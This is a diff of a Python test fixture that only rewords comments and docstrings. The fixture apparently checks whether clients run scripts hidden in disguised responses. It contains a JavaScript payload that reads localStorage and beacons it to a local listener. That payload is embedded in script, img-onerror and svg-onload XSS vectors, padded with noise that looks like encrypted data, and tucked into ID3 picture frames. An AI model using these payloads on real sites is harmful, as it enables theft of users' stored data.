@@ -1,4 +1,4 @@
-"""An origin that answers with hostile header fields, and a listener that scripts report to."""
+"""An origin with hostile response headers, and a listener that scripts report to."""
 
 import random
 import socket
@@ -13,14 +13,14 @@ COUNT = 200
 
 @dataclass(frozen=True)
 class Case:
-    """One answer: the raw lines of its head, without Content-Length, and its body."""
+    """A response: the raw lines of its head, without Content-Length, and its body."""
 
     fields: tuple[bytes, ...]
     body: bytes
 
 
 class Beacon:
-    """Counts what scripts report."""
+    """Collects the reports of scripts."""
 
     def __init__(self):
         self.reports: list[str] = []
@@ -33,7 +33,7 @@ class Beacon:
                 self.end_headers()
 
             def log_message(self, *_):
-                """The tests say what they need to know."""
+                """Logs nothing."""
 
         self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
         self._server.daemon_threads = True
@@ -46,7 +46,7 @@ class Beacon:
 
 
 class HostileOrigin:
-    """Serves the cases as `/<number>.<ending>`, byte for byte, and `files` by their paths."""
+    """Serves the cases as `/<number>.<extension>`, byte for byte, and `files` by path."""
 
     def __init__(self, cases: list[Case]):
         self.cases = cases
@@ -81,7 +81,7 @@ class HostileOrigin:
                     connection.sendall(self._response(words[0] == b"HEAD", words[1].decode()))
                     connection.shutdown(socket.SHUT_WR)
             except OSError:
-                """Clients that leave are no news."""
+                """Ignores clients that disconnect."""
 
     def _response(self, is_head: bool, target: str) -> bytes:
         path = urlsplit(target).path
@@ -99,21 +99,21 @@ class HostileOrigin:
 
 
 def script(beacon: str) -> str:
-    """A script that reports that it ran, with all of the local storage it can read."""
+    """Returns a script that reports its execution, with the local storage it can read."""
     return (f"var s='';try{{s=JSON.stringify(localStorage)}}catch(e){{s='none'}};"
             f"new Image().src='{beacon}/ran?'+encodeURIComponent(location.pathname)+'&'+encodeURIComponent(s)")
 
 
 def bodies(beacon: str) -> list[bytes]:
-    """Documents that run a script where a browser takes them for HTML or SVG.
+    """Returns documents that run a script if a browser treats them as HTML or SVG.
 
-    Most don't begin like a page, so that looking at their first bytes doesn't give them away. Their lengths are those of
-    encrypted segments.
+    Most don't start like a page, so that their first bytes don't identify them. Their lengths are multiples of 16, like
+    those of encrypted segments.
     """
     code = script(beacon)
     page = f"<script>{code}</script><img src=x onerror=\"{code}\"><svg onload=\"{code}\"></svg>"
     svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{code}\"><script>{code}</script></svg>"
-    # As what is encrypted looks.
+    # Resembles encrypted data.
     noise = bytes(random.Random(SEED).choices(range(0x80, 0x100), k=5000))
     texts = [
         noise + page.encode(),
@@ -136,7 +136,7 @@ def bodies(beacon: str) -> list[bytes]:
 
 
 def song(picture: bytes, kind: str) -> bytes:
-    """A song whose ID3 tag (version 2.3) has a picture (APIC) of a type, and what might be sound."""
+    """Returns a song whose ID3 tag (version 2.3) has a picture (APIC) of a media type."""
     content = b"\0" + kind.encode("latin-1", "replace").replace(b"\0", b"") + b"\0\x03\0" + picture
     frame = b"APIC" + len(content).to_bytes(4, "big") + b"\0\0" + content
     length = bytes(len(frame) >> shift & 0x7F for shift in (21, 14, 7, 0))
@@ -186,11 +186,11 @@ OTHERS = [
 
 
 def make(beacon: str, seed: int = SEED) -> list[Case]:
-    """The cases of a seed: each type once as the only field that is hostile, and then mixtures."""
+    """Returns the cases of a seed: each type once as the only hostile field, then mixtures."""
     generator = random.Random(seed)
 
     def pick(values: list[str], counts: tuple[int, ...]) -> list[str]:
-        # Most answers with a control character aren't HTTP, and are refused after some tries: a few are enough.
+        # Most responses with a control character aren't HTTP, and are refused after several attempts: a few are enough.
         plain = [value for value in values if not any(char < " " and char != "\t" for char in value)]
         return generator.choices(values if generator.random() < 0.05 else plain, k=generator.choice(counts))
 
